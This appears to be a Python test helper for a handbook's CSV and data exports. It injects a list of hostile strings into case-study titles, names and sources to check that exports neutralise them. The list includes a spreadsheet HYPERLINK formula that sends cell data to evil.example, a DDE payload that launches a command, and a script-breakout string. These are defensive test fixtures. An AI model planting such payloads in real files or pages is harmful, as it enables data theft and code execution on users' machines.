"""What the tests of the exports share: catalogues to export, a hostile one among them, and how they are read back."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from functools import lru_cache
from pathlib import Path

from handbook.content import Content, case_study_uri
from handbook.crossref import cross_reference
from handbook.exports import Export, export_files
from handbook.model.case_study import CaseStudy, Organisation, OrganisationRole, Result
from handbook.pages.memory import Once
from handbook.problems import Place
from handbook.translation.po import Entry, State
from handbook.translation.translation import Translation
from real import Same, translation_of

ROOT = Path(__file__).resolve().parents[2]
TABLES = ("case-studies", "results", "sources", "taxonomy")
HOSTILE = (
    '=HYPERLINK("https://evil.example?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "\x0b\x0c=1",
    "＝1+1",
)
SCRIPT = "</script><script>alert(1)</script><!-- \u2028 ]]> & ' \""


def exported(content: Content, code: str = "en") -> dict[str, bytes]:
    return {one.uri.removeprefix("data/"): one.data for one in files_of(Same(content), code)}


@lru_cache(maxsize=8)
def files_of(content: Same, code: str) -> tuple[Export, ...]:
    return export_files(Once(content.value, translation_of(content.value, code)))


def with_studies(content: Content, *studies: CaseStudy, **more: object) -> Content:
    catalogue = replace(content.catalogue, case_studies=studies, **more)
    return replace(content, catalogue=catalogue, crossrefs=cross_reference(catalogue))


def hostile(content: Content) -> Content:
    """Each hostile text as a title, a figure, a name in a list, and the title and publisher of a source."""
    studies = []
    for one, text in zip(range(len(HOSTILE)), HOSTILE, strict=True):
        study = content.catalogue.case_studies[one % len(content.catalogue.case_studies)]
        source = replace(study.sources[0], title=text, publisher=text)
        organisations = tuple(Organisation(name=name, role=OrganisationRole.LEAD) for name in ("A", text))
        result = Result(finding=text, figure=text, source=source.id)
        studies.append(
            replace(
                study,
                id=f"hostile-{one}",
                title=text,
                summary=f"{text} {SCRIPT}",
                organisations=organisations,
                results=(result, result),
                sources=(source, *study.sources[1:]),
            )
        )
    return with_studies(content, *studies)


def rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a byte order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def translated(content: Content, code: str, study: CaseStudy, texts: dict[str, str]) -> Translation:
    own = translation_of(content, code)
    entries = {
        (field, getattr(study, field)): Entry(field, getattr(study, field), text, State.HUMAN, Place(path="x.po"))
        for field, text in texts.items()
    }
    return Translation(own.locale, {**own.entries, case_study_uri(study.id): entries})
